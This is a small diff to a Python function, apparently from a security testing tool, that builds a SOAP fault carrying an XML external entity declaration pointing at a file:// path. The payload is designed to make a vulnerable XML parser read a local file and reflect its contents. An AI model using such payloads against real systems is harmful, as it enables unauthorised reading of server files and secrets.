@@ -133,5 +133,5 @@ def xxe_fault(path: str) -> bytes:
     body = ("<soap:Fault><faultcode>soap:Server</faultcode><faultstring>&probe;</faultstring>"
             "<detail /></soap:Fault>")
     doctype = f'<!DOCTYPE probe [<!ENTITY probe SYSTEM "file://{escape(path)}">]>'
-    declaration, envelope = _ENVELOPE.format(body=body).split("?>", 1)
+    declaration, envelope = _ENVELOPE.format(ns=SOAP_ENV, body=body).split("?>", 1)
     return f"{declaration}?>{doctype}{envelope}".encode()
